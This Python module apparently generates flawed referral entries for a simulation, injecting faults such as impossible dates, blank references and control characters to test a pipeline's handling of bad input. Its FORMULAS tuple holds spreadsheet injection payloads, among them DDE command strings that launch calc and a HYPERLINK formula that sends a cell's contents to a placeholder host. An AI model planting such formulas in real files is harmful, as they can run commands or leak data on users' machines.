"""Referrals as typed into a team's file: mostly as submitted, a few so that they cannot be taken as they stand."""

import random
from collections.abc import Iterable
from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from typing import NamedTuple

from vigil.rules.terms import Area
from vigil.simulation.synthetic.referrals import SyntheticReferral

# [A] entries in a thousand with each fault.
BAD_ROWS = {
    "impossible_date": 1.6,
    "future_date": 1.6,
    "submitted_before_incident": 1.6,
    "empty_narrative": 2.6,
    "formula_injection": 2.6,
    "control_characters": 1.4,
    "narrative_20kb": 1.4,
    "reference_reused": 1.8,
    "blank_reference": 1.8,
    "test_record": 1.4,
}
FORMULAS = (
    '=HYPERLINK("http://footage.example.invalid/?c="&B2,"Open footage")',
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evidence.example.invalid/","BWV clip")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
TESTS = ("TEST - ignore", "Training record, please remove", "testing the new form, do not action", "zzz test entry")
UPDATES = (
    "UNIT RESOURCED FROM NEAREST STATION",
    "CALLER CALLED BACK, VOICEMAIL",
    "MARKERS CHECKED ON ADDRESS",
    "CAR ON SCENE, NO TRACE OUTSIDE",
    "CONTROL: ANY UPDATE PLEASE",
    "INTEL DESK LOOKING AT HISTORY",
    "ALL PARTIES SPOKEN TO, TO FOLLOW",
    "LOG GRADED PROMPT",
    "DUPLICATE CALL LINKED TO THIS LOG",
)


class Moment(NamedTuple):
    """A day and time as typed, which need not exist."""

    year: int
    month: int
    day: int
    hour: int
    minute: int


@dataclass(frozen=True, slots=True, kw_only=True)
class Entry:
    """One referral as a team typed it in. ``bad_row`` names its fault, "" for none."""

    referral: SyntheticReferral
    reference: str
    incident: Moment
    submitted: Moment
    narrative: str
    bad_row: str = ""


def typed_in(referrals: Iterable[SyntheticReferral], *, seed: int, position_at: datetime) -> dict[Area, list[Entry]]:
    """Return each team's entries in the order they were submitted."""
    queues: dict[Area, list[Entry]] = {area: [] for area in Area}
    for one in referrals:
        queues[one.team].append(
            Entry(
                referral=one,
                reference=one.reference,
                incident=_moment(one.incident_at),
                submitted=_moment(one.submitted_at),
                narrative=one.narrative,
            )
        )
    for area, entries in queues.items():
        _spoil(entries, random.Random(f"{seed}/slips/{area}"), position_at)
    return queues


def _spoil(entries: list[Entry], chance: random.Random, position_at: datetime) -> None:
    """Give a few entries, in place, one fault each."""
    counts = {fault: max(1, round(len(entries) * share / 1_000)) for fault, share in BAD_ROWS.items()}
    faults = [fault for fault, count in counts.items() for _ in range(count)]
    # A referral and its copies are left whole, so that what is a duplicate of what stays plain.
    copied = {e.referral.duplicate_of or e.referral.same_incident_as for e in entries}
    whole = [
        at
        for at, e in enumerate(entries)
        if not e.referral.duplicate_of and not e.referral.same_incident_as and e.referral.number not in copied
    ]
    chosen = chance.sample(whole, min(len(whole), len(faults) + counts["reference_reused"]))
    others = chosen[len(faults) :]
    for at, fault in zip(chosen, faults, strict=False):
        entries[at] = _with(fault, entries[at], chance, position_at)
        if fault == "reference_reused" and others:
            other = others.pop()
            entries[at] = replace(entries[at], reference=entries[other].reference)
            entries[other] = replace(entries[other], bad_row=fault)


def _with(fault: str, entry: Entry, chance: random.Random, position_at: datetime) -> Entry:
    one = entry.referral
    changes: dict[str, object] = {}
    match fault:
        case "impossible_date":
            changes["incident"] = entry.incident._replace(month=chance.choice((2, 4, 6, 9, 11)), day=31)
        case "future_date":
            ahead = position_at + timedelta(days=chance.randint(20, 400))
            changes["incident"] = _moment(ahead)._replace(hour=one.incident_at.hour, minute=one.incident_at.minute)
        case "submitted_before_incident":
            changes["submitted"] = _moment(one.incident_at - timedelta(days=chance.randint(1, 9), hours=2))
        case "empty_narrative":
            changes["narrative"] = chance.choice(("", "", " ", "\n"))
        case "formula_injection":
            formula = chance.choice(FORMULAS)
            changes["narrative"] = formula if chance.random() < 0.5 else f"{formula} {one.narrative}"
        case "control_characters":
            words = one.narrative.split(" ")
            at = chance.randint(1, max(1, len(words) - 1))
            words[at:at] = [chance.choice(("\x00", "\x07", "\x0b", "\x1b[0m", "\x08")) + "ref"]
            changes["narrative"] = " ".join(words)
        case "narrative_20kb":
            changes["narrative"] = _pasted_log(chance, one)
        case "blank_reference":
            changes["reference"] = ""
        case "test_record":
            changes["narrative"] = chance.choice(TESTS)
    return replace(entry, bad_row=fault, **changes)  # type: ignore[arg-type]


def _pasted_log(chance: random.Random, one: SyntheticReferral) -> str:
    """Return the narrative at the end of a whole control-room log, some 20,000 characters."""
    at, lines, length = one.incident_at, ["** LOG COPIED IN **"], 0
    while length < 20_000:
        line = f"{at:%H:%M:%S} {chance.randint(1_000, 6_999)} {chance.choice(UPDATES)}"
        lines.append(line)
        length += len(line) + 1
        at += timedelta(seconds=chance.randint(5, 90))
    return "\n".join([*lines, one.narrative])


def _moment(at: datetime) -> Moment:
    return Moment(at.year, at.month, at.day, at.hour, at.minute)
